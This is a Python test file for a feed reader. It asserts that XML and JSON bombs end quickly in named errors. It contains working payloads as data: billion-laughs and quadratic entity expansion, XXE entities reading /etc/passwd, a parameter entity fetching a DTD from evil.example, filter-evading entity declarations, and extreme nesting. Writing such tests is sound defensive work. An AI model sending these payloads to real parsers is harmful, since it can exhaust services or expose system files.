"""Case 8 and case 14: files made to exhaust a reader end soon, in an error that says why."""

from __future__ import annotations

import time

import pytest

from compagnon.sales.watch.readers import ReadingError, limited, read

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<!DOCTYPE rss [<!ENTITY l0 "lol">{LAUGHS}]><rss><channel><title>&l9;</title></channel></rss>'

BOMBS = {
    "billion laughs": (BILLION, "entity-declaration"),
    "quadratic": (
        f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50_000}">]><rss>{"&a;" * 50_000}</rss>',
        "entity-declaration",
    ),
    "external entity": (
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title></channel></rss>',
        "entity-declaration",
    ),
    "parameter entity": (
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        "entity-declaration",
    ),
    "entity behind a comment in an instruction": (
        '<!DOCTYPE rss [<?a <!-- ?><!ENTITY x "y"><?b --> ?>]><rss><title>&x;</title></rss>',
        "entity-declaration",
    ),
    "entity after a quote": (
        '<!DOCTYPE rss [<!-- \' --><!ENTITY x "y">]><rss><channel><title>&x;</title></channel></rss>',
        "entity-declaration",
    ),
    "entity in lower case": (
        '<!doctype rss [<!entity x "y">]><rss><title>&x;</title></rss>',
        "entity-declaration",
    ),
    "entity in a notice": (
        '<!DOCTYPE ANNONCE [<!ENTITY x SYSTEM "file:///etc/passwd">]><ANNONCE><a>&x;</a></ANNONCE>',
        "entity-declaration",
    ),
    "100,000 levels": (f"<rss>{'<a>' * 100_000}{'</a>' * 100_000}</rss>", "too-deep"),
    "100,000 levels in a notice": (f"<ANNONCE>{'<a>' * 100_000}{'</a>' * 100_000}</ANNONCE>", "too-deep"),
    "100,000 levels of JSON": ("[" * 100_000, "too-deep"),
    "700,000 items": (f"<rss><channel>{'<item/>' * 700_000}</channel></rss>", "too-many-items"),
    "10,001 JSON items": (
        f'{{"version":"https://jsonfeed.org/version/1","items":[{",".join(["1"] * 10_001)}]}}',
        "too-many-items",
    ),
    "over 5 MB": ("<rss>" + " " * 5_000_000, "too-large"),
    "open brackets": ("<rss>" + "<" * 60_000, "ill-formed"),
    "open attributes": ("<rss><channel><item><title>" + "<a " * 20_000, "ill-formed"),
    "open sections": ("<rss><item><description>" + "<![CDATA[" * 6_000, "ill-formed"),
    "endless comment": ("<!--" * 1_000_000, "empty"),
    "endless doctype": ("<!DOCTYPE " + "[" * 2_000_000, "empty"),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_ends_soon_in_a_named_error(name: str) -> None:
    document, code = BOMBS[name]
    started = time.monotonic()
    with pytest.raises(ReadingError) as refusal:
        read(document.encode(), source="x")
    assert refusal.value.code == code
    assert time.monotonic() - started < 3


def test_ten_thousand_items_are_read() -> None:
    items = "".join(f"<item><title>n{number}</title></item>" for number in range(10_000))
    reading = read(f'<rss version="2.0"><channel>{items}</channel></rss>'.encode(), source="x")
    assert len(reading.entries) == 10_000
    assert reading.entries[-1].title == "n9999"


def test_a_large_feed_that_takes_too_long_is_stopped() -> None:
    attributes = " ".join(f'b{number}="1"' for number in range(300_000))
    started = time.monotonic()
    with pytest.raises(ReadingError) as refusal:
        limited.read_limited(f'<rss xmlns:a="x" {attributes}/>'.encode(), None, seconds=0.8)
    assert refusal.value.code == "too-slow"
    assert time.monotonic() - started < 3


def test_a_large_feed_that_takes_too_much_memory_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limited, "MEMORY", 20_000_000)
    with pytest.raises(ReadingError) as refusal:
        limited.read_limited(b"<rss>" + b" " * 100_000 + b"</rss>", None)
    assert refusal.value.code == "too-heavy"


def test_a_doctype_without_entities_is_harmless() -> None:
    data = b'<!DOCTYPE rss PUBLIC "-//N//DTD RSS 0.91//EN" "http://n.example/rss.dtd"><rss version="0.91"/>'
    assert read(data, source="x").kind == "rss-0.91"


def test_words_about_entities_in_an_article_are_no_declaration() -> None:
    title = b"<![CDATA[<!DOCTYPE a [<!ENTITY b 'c'>]> explained]]>"
    data = b"<rss><channel><item><title>" + title + b"</title></item></channel></rss>"
    assert "explained" in read(data, source="x").entries[0].title
